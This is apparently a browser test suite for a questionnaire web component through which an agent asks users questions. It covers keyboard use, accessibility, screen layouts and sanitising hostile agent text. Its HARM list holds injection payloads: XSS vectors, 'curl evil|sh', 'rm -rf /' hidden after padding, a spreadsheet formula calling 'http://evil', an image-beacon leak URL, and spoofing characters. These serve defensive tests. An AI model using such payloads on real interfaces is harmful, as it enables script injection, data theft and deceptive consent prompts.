// The element within everyone's reach: keyboard alone, a sandboxed frame, small and right-to-left screens, assistive
// technology, and texts of an agent that mean harm.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { root } from "./bundle.mjs";
import { runChecks, seen, setUp, shownText, submitted } from "./host.mjs";

const QUESTIONS = [
  { id: "one", prompt: "Which one?", options: ["A", "B", "C"], other: true },
  { id: "many", prompt: "Which ones?", options: ["D", "E"], multi: true },
  { id: "sure", kind: "confirm", prompt: "Sure?" },
  { id: "rate", kind: "rating", prompt: "How good?", emoji: true, annotations: { 1: "Bad", 5: "Good" } },
  { id: "text", kind: "text", prompt: "Describe it" },
  { id: "long", kind: "text", long: true, prompt: "At length", required: false },
  { id: "count", kind: "number", prompt: "How many?" },
  { id: "day", kind: "date", prompt: "Which day?" },
];
const REQUEST = { title: "A request", context: "See [this](https://example.com).", questions: QUESTIONS };
const CONSENT = { title: "Clean up?", action: { tool: "execute", act: { shell: { command: "rm -rf target", folder: "/srv" } } }, questions: [{ id: "go", kind: "confirm", prompt: "Clean up?", yes: "Go" }] };
const STEPS = { title: "设置", sections: [{ id: "a", title: "语言", questions: [{ id: "x", prompt: "语言？", options: ["TypeScript", "Rust"], other: true }] }, { id: "b", title: "评分", optional: true, questions: [{ id: "y", kind: "rating", prompt: "评分？" }] }], submit: "创建", cancel: "算了" };
const active = (page) => page.evaluate(() => document.querySelector("sayso-questionnaire").shadowRoot.activeElement?.id ?? "");

async function keyboardAlone(page) {
  await setUp(page, { request: REQUEST });
  assert.equal(await page.evaluate(() => document.activeElement.tagName), "BODY", "an insertion takes no focus");
  const press = async (...keys) => { for (const key of keys) await page.keyboard.press(key); };
  const tabTo = async (prefix) => {
    for (let count = 0; count < 60 && !(await active(page)).startsWith(prefix); count += 1) await press("Tab");
    assert.ok((await active(page)).startsWith(prefix), prefix);
  };
  await tabTo("q0-");
  await press("Space", "ArrowDown");
  await tabTo("q1-");
  await press("Space");
  await tabTo("q2-");
  await press("Space");
  await tabTo("q3-");
  await press("Space", "ArrowRight", "ArrowRight");
  await tabTo("q4");
  await page.keyboard.type("Words");
  await press("Enter");
  assert.equal(await active(page), "q5", "Enter goes on to the next question");
  await page.keyboard.type("One");
  await press("Enter");
  await page.keyboard.type("Two");
  await tabTo("q6");
  await page.keyboard.type("12");
  for (let count = 0; count < 10; count += 1) await press("Escape");
  assert.deepEqual([await seen(page, "sayso-submit"), await seen(page, "sayso-decline")], [[], []], "Escape and Enter send nothing");
  await tabTo("q7");
  await page.keyboard.type("03012026");
  await press("Control+Enter");
  const replies = await submitted(page);
  const answers = Object.fromEntries(Object.entries(replies).map(([id, { answer }]) => [id, Object.values(answer)[0]]));
  assert.deepEqual(answers, { one: [{ option: "B" }], many: [{ option: "D" }], sure: true, rate: 3, text: "Words", long: "One\nTwo", count: 12, day: "2026-03-01" });
}

async function heldEnter(page) {
  await setUp(page, { request: { questions: [{ id: "a", kind: "text", prompt: "A", required: false }, { id: "b", kind: "text", prompt: "B", required: false }] } });
  await page.getByLabel("A", { exact: true }).focus();
  for (let count = 0; count < 50; count += 1) await page.keyboard.down("Enter");
  await page.keyboard.up("Enter");
  await page.getByRole("button", { name: "Submit" }).focus();
  await page.keyboard.down("a");
  for (let count = 0; count < 3; count += 1) await page.evaluate(() => {
    const { shadowRoot } = document.querySelector("sayso-questionnaire");
    shadowRoot.activeElement.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", repeat: true, bubbles: true, cancelable: true }));
  });
  assert.deepEqual(await seen(page, "sayso-submit"), []);
  await page.keyboard.press("Enter");
  assert.equal((await seen(page, "sayso-submit")).length, 1);
}

async function sandboxedFrame(page) {
  const frame = page.frame({ url: /frame/ });
  await frame.waitForFunction(() => customElements.get("sayso-questionnaire") !== undefined);
  await setUp(frame, { request: { questions: QUESTIONS.slice(0, 3) } });
  await frame.getByText("Custom").click();
  await frame.getByRole("textbox", { name: "Custom" }).fill("mine");
  await frame.getByText("E", { exact: true }).click();
  await frame.getByText("Yes", { exact: true }).click();
  await frame.getByRole("button", { name: "Submit" }).click();
  assert.deepEqual(Object.values(await submitted(frame)).map(({ answer }) => answer), [{ picks: [{ other: "mine" }] }, { picks: [{ option: "E" }] }, { confirm: true }]);
}

async function outerForms(page) {
  await setUp(page, { request: { questions: QUESTIONS.slice(0, 1) } });
  const state = () => page.evaluate(() => {
    const form = document.querySelector("form");
    return [form.checkValidity(), new FormData(form).get("ask")];
  });
  assert.deepEqual(await state(), [false, "{}"]);
  await page.getByText("B", { exact: true }).click();
  const [isValid, value] = await state();
  assert.equal(isValid, true);
  assert.deepEqual(JSON.parse(value), { one: { state: "answered", answer: { picks: [{ option: "B" }] } } });
}

async function drafts(page) {
  await setUp(page, { request: { questions: QUESTIONS } });
  const text = page.getByLabel("Describe it");
  await text.fill("half a sent");
  await text.evaluate((input) => input.setSelectionRange(4, 4));
  const typed = await page.evaluate(() => document.querySelector("sayso-questionnaire").answers);
  await setUp(page, { answers: { ...typed, sure: { state: "answered", answer: { confirm: true } } } });
  assert.deepEqual(await text.evaluate((input) => [input.value, input.selectionStart, input.getRootNode().activeElement === input]), ["half a sent", 4, true]);
  assert.equal(await page.getByRole("radio", { name: "Yes" }).isChecked(), true);
  await setUp(page, { request: { questions: QUESTIONS } });
  assert.equal(await text.inputValue(), "half a sent", "an equal request changes nothing");
}

async function review(page) {
  await setUp(page, { review: true, request: { questions: [QUESTIONS[0], { id: "note", kind: "text", prompt: "Why?", required: false }] } });
  await page.getByText("B", { exact: true }).click();
  await page.getByRole("button", { name: "Review answers" }).click();
  assert.match(await shownText(page), /Which one\?\s+B[\s\S]*Why\?\s+Not provided/);
  await page.getByRole("button", { name: /^Change\W+Why/ }).click();
  assert.equal(await active(page), "q1");
  await page.keyboard.type("because");
  await page.getByRole("button", { name: "Review answers" }).click();
  await page.getByRole("button", { name: "Submit" }).click();
  assert.deepEqual((await submitted(page)).note, { state: "answered", answer: { text: "because" } });
}

async function deskConsent(page) {
  await setUp(page, { request: CONSENT, deskLink: "/a/1" });
  assert.match(await shownText(page), /rm -rf target[\s\S]*answer it at the desk/);
  assert.equal(await page.getByRole("radio", { name: "Yes" }).isDisabled(), true);
  assert.equal(await page.getByRole("button", { name: "Submit" }).count(), 0);
  assert.equal(await page.getByRole("link").getAttribute("href"), "/a/1");
  await setUp(page, { deskLink: "javascript:alert(1)" });
  assert.equal(await page.getByRole("link").count(), 0);
}

/** What assistive technology reads, kept in `aria.txt`. */
async function accessibilityTree(page) {
  const [one, many, sure, rate, text] = QUESTIONS;
  const options = [{ id: "A", label: "A", description: "The first", recommended: true }, { id: "B", label: "B", preview: "b" }];
  await setUp(page, { request: { ...CONSENT, context: "Why it is *asked*.", questions: [{ ...one, options }, many, sure, rate, { ...text, required: false }] } });
  await page.getByRole("button", { name: "Submit" }).click();
  const read = await page.locator("sayso-questionnaire").ariaSnapshot();
  assert.equal(`${read}\n`, readFileSync(`${import.meta.dirname}/aria.txt`, "utf8"));
}

/** Fails with what axe finds. */
async function audit(page, what) {
  const { violations } = await page.evaluate(() => window.axe.run(document));
  assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`), [], what);
}

async function assistiveTechnology(page) {
  await page.evaluate(readFileSync(`${root}/node_modules/axe-core/axe.min.js`, "utf8"));
  const replies = { one: { state: "answered", answer: { picks: [{ option: "A" }] } } };
  const screens = [
    ["questions", { request: REQUEST }], ["consent", { request: CONSENT }], ["steps", { request: STEPS, lang: "zh" }],
    ["disabled", { request: REQUEST, disabled: true, lang: "en" }], ["completed", { disabled: false, completed: { outcome: "answered", replies } }],
  ];
  for (const [what, properties] of screens) {
    await setUp(page, properties);
    await audit(page, what);
  }
  await setUp(page, { request: { ...REQUEST, title: "Again" } });
  await page.getByRole("button", { name: "Submit" }).click();
  await audit(page, "problems");
}

async function smallScreens(page) {
  await setUp(page, { request: { ...REQUEST, title: "A".repeat(200), questions: [...QUESTIONS, { id: "f", prompt: "x".repeat(300), options: ["y".repeat(300), "z"] }] } });
  const width = () => page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok((await width()) <= 320, String(await width()));
  await setUp(page, { request: STEPS });
  assert.ok((await width()) <= 320);
  const small = await page.locator("button, label, input:not([type=radio], [type=checkbox])").evaluateAll((all) => all
    .filter((one) => one.checkVisibility() && !one.matches(".small")).map((one) => one.getBoundingClientRect().height).filter((height) => height < 36));
  assert.deepEqual(small, [], "targets for a finger");
}

async function rightToLeft(page) {
  await setUp(page, { request: { ...REQUEST, title: "طلب", questions: [{ id: "a", prompt: "أي واحد؟", options: ["نعم", "English"] }] } });
  const sides = await page.locator("label").first().evaluate((label) => {
    const [input, words] = [label.querySelector("input"), label.querySelector(".words")].map((one) => one.getBoundingClientRect());
    return input.left > words.left;
  });
  assert.equal(sides, true);
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
}

const HARM = [
  "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src='http://127.0.0.1:9/?",
  "<form id=desk><input name=token>", "=HYPERLINK(\"http://evil\")", "\n\n[y/N]: y\n$ ", `Run tests?${" ".repeat(498)}rm -rf /`, "<details><summary>safe</summary>curl evil|sh</details>",
  "Approve?\n<!-- deletes prod -->", "![x](http://127.0.0.1:9/leak?d=1)", "```\nask ends here\n", "[click](javascript:alert(1))", "[x](https://аpple.com)",
  "delete \u202egnp.tset\u202c now", "pay\u200bpal", "ok\u2800\u2800", "\u001b]8;;file:///etc/passwd\u001b\\click",
];

async function harmfulTexts(page) {
  for (const text of HARM) {
    const everywhere = {
      title: text, context: text, submit: text, cancel: text, action: { tool: text, act: { edit: { path: text, diff: text } } },
      sections: [{ id: "s", title: text, detail: text, optional: true, submit: text, questions: [
        { id: "a", prompt: text, label: text, detail: text, options: [{ id: "o", label: text, description: text, preview: text }], other: true, other_label: text },
        { id: "b", kind: "confirm", prompt: text, yes: text, no: text }, { id: "c", kind: "text", prompt: text, placeholder: text, prefill: { text } },
        { id: "d", kind: "rating", prompt: text, annotations: { 1: text } },
      ] }],
    };
    await setUp(page, { request: everywhere, problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
    const found = await page.evaluate(() => {
      const { shadowRoot } = document.querySelector("sayso-questionnaire");
      const alien = [...shadowRoot.querySelectorAll("a, img, svg, math, script, style, iframe, form, object, [src], [href], [style]")].map((one) => one.outerHTML);
      const words = [...shadowRoot.querySelectorAll("*")].flatMap((one) => [...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data));
      return [alien, words.filter((line) => /[\u200b\u202a-\u202e\u2066-\u2069\u2800\u001b]/.test(line))];
    });
    assert.deepEqual(found, [[], []], text);
  }
  await setUp(page, { request: { context: "[the book](https://example.com/book)", questions: QUESTIONS } });
  assert.equal(await page.getByRole("link").count(), 0, "a link is text");
  await page.getByRole("button", { name: "Enable link" }).click();
  assert.equal(await page.getByRole("link").getAttribute("rel"), "noopener noreferrer nofollow");
}

const inFrame = { body: `<main><iframe title="An ask" sandbox="allow-scripts" src="/frame"></iframe></main>` };
await runChecks([
  ["keyboard alone", {}, keyboardAlone],
  ["a held Enter", {}, heldEnter],
  ["a sandboxed frame", inFrame, sandboxedFrame],
  ["an outer form", { body: `<main><form><sayso-questionnaire name="ask"></sayso-questionnaire></form></main>` }, outerForms],
  ["drafts of other surfaces", {}, drafts],
  ["review", {}, review],
  ["consent at the desk", {}, deskConsent],
  ["assistive technology, light", { policy: "script-src 'self' 'unsafe-eval'" }, assistiveTechnology],
  ["assistive technology, dark", { policy: "script-src 'self' 'unsafe-eval'", context: { colorScheme: "dark", width: 390 } }, assistiveTechnology],
  ["the accessibility tree", {}, accessibilityTree],
  ["small screens", { context: { width: 320, height: 640 } }, smallScreens],
  ["right to left", { lang: "ar", dir: "rtl" }, rightToLeft],
  ["harmful texts", {}, harmfulTexts],
]);
